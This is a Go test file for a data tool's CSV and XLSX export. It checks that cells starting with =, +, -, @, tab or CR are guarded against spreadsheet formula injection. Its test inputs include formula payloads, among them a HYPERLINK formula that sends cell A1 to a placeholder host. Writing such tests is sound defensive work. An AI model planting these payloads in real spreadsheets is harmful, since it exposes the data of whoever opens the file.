package output

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/doisanh/doisanh/internal/csvcell"
	"github.com/doisanh/doisanh/record"
)

// formulas are values a spreadsheet would run as formulas if a CSV cell
// started with them, and one already led by an apostrophe.
var formulas = []string{`=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")`, "-2+3", "+84912345678",
	"@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1"}

// formulaFindings are findings with a formula in every text column that an
// officer or a program reads.
func formulaFindings() []record.Finding {
	var out []record.Finding
	for i, v := range formulas {
		f := testFindings()[i%3]
		f.FindingID = "f" + string(rune('a'+i))
		f.FullName, f.PopulationValue, f.SourceValue, f.Address, f.HouseholdID = v, v, v, v, v
		f.SourceKey, f.RelatedPersonID, f.CommuneName, f.Suggestion = v, v, v, v
		out = append(out, f)
	}
	return out
}

// startsFormula reports whether a CSV cell would be read as a formula.
func startsFormula(c string) bool { return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) }

// TestCSVFormulaInjection: in every CSV of a run (findings.csv,
// rejects.csv, each fix list) no cell starts with =, +, -, @, tab or CR;
// reading the files back (ReadFindings, csvcell.Unguard) gives the values
// as they were; and the XLSX fix lists hold those values as text cells,
// never formulas.
func TestCSVFormulaInjection(t *testing.T) {
	fsIn := formulaFindings()
	var rejects []record.Reject
	for i, v := range formulas {
		rejects = append(rejects, record.Reject{Source: "tax", File: v, RowNumber: int64(i + 1), Column: v, Reason: v, Raw: v + "," + v})
	}
	out := filepath.Join(t.TempDir(), "out")
	d, err := Create(out, Options{XLSX: true, Version: "test", Now: func() time.Time { return time.Unix(1e9, 0) }})
	if err != nil {
		t.Fatal(err)
	}
	if err := d.WriteRejects(rejects); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteFindings(fsIn, testSummary()); err != nil {
		t.Fatal(err)
	}
	if err := d.Commit(); err != nil {
		t.Fatal(err)
	}

	var csvs []string
	filepath.WalkDir(out, func(p string, e fs.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, ".csv") {
			csvs = append(csvs, p)
		}
		return err
	})
	if len(csvs) < 3 {
		t.Fatalf("CSV files %v", csvs)
	}
	for _, p := range csvs {
		guarded := 0
		for i, row := range readCSV(t, p) {
			for j, c := range row {
				if startsFormula(c) {
					t.Errorf("%s row %d column %d: %q would run as a formula", filepath.Base(p), i, j, c)
				}
				if strings.HasPrefix(c, "'") {
					guarded++
				}
			}
		}
		if guarded == 0 {
			t.Errorf("%s: no guarded cell", filepath.Base(p))
		}
	}

	// findings.csv reads back as findings.parquet does, as written.
	fromCSV, err := ReadFindings(filepath.Join(out, "findings.csv"))
	if err != nil {
		t.Fatal(err)
	}
	fromParquet, err := ReadFindings(out)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(fromCSV, fromParquet) {
		t.Errorf("findings.csv and findings.parquet differ:\n%+v\n%+v", fromCSV, fromParquet)
	}
	for _, f := range fromCSV {
		if !contains(formulas, f.FullName) || f.SourceValue != f.FullName || f.Suggestion != f.FullName {
			t.Errorf("finding %s read back as %q / %q / %q", f.FindingID, f.FullName, f.SourceValue, f.Suggestion)
		}
	}
	// rejects.csv too.
	rows := readCSV(t, filepath.Join(out, "rejects.csv"))
	csvcell.UnguardRows(rows)
	for i, rj := range rejects {
		if r := rows[i+1]; r[1] != rj.File || r[3] != rj.Column || r[4] != rj.Reason || r[5] != rj.Raw {
			t.Errorf("rejects.csv row %d = %q, want %+v", i+1, r, rj)
		}
	}

	// Each fix list: the XLSX cell holds text, no formula, equal to the
	// CSV cell with its guard removed.
	lists, _ := filepath.Glob(filepath.Join(out, "fixlists", "*", "*.xlsx"))
	if len(lists) == 0 {
		t.Fatal("no XLSX fix list")
	}
	seen := map[string]bool{}
	for _, xl := range lists {
		csvRows := readCSV(t, strings.TrimSuffix(xl, ".xlsx")+".csv")
		byID := map[string][]string{}
		for _, r := range csvRows[1:] {
			byID[csvcell.Unguard(r[colFindingID])] = r
		}
		x, err := excelize.OpenFile(xl)
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range x.GetSheetList()[1:] {
			xrows, err := x.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for i, r := range xrows[titleRows+1:] {
				want := byID[r[colFindingID]]
				if want == nil {
					t.Fatalf("%s: finding %q not in the CSV list", sheet, r[colFindingID])
				}
				for c := range r {
					cell, _ := excelize.CoordinatesToCellName(c+1, titleRows+2+i)
					if f, _ := x.GetCellFormula(sheet, cell); f != "" {
						t.Errorf("%s %s is a formula: %q", sheet, cell, f)
					}
					if c > 0 && r[c] != csvcell.Unguard(want[c]) {
						t.Errorf("%s %s = %q, CSV %q", sheet, cell, r[c], want[c])
					}
					if contains(formulas, r[c]) {
						seen[r[c]] = true
						if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s %s (%q) is not a text cell: %v", sheet, cell, r[c], typ)
						}
					}
				}
			}
		}
		x.Close()
	}
	for _, v := range formulas {
		if !seen[v] && !strings.ContainsAny(v, "\t\r") { // the lists show names on one line
			t.Errorf("no XLSX cell holds %q", v)
		}
	}
}

// TestDiffCSVFormulaInjection: the CSV of diff guards its cells too.
func TestDiffCSVFormulaInjection(t *testing.T) {
	old := formulaFindings()
	res := Diff(old, old[2:], nil)
	var buf bytes.Buffer
	if err := res.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	if !bytes.HasPrefix(data, []byte(bom)) {
		t.Fatal("diff CSV has no BOM")
	}
	rows, err := csv.NewReader(bytes.NewReader(data[len(bom):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	guarded := 0
	for i, row := range rows {
		for j, c := range row {
			if startsFormula(c) {
				t.Errorf("diff CSV row %d column %d: %q would run as a formula", i, j, c)
			}
			if csvcell.Unguard(c) != c {
				guarded++
			}
		}
	}
	if guarded == 0 {
		t.Errorf("diff CSV guards no cell:\n%s", data)
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
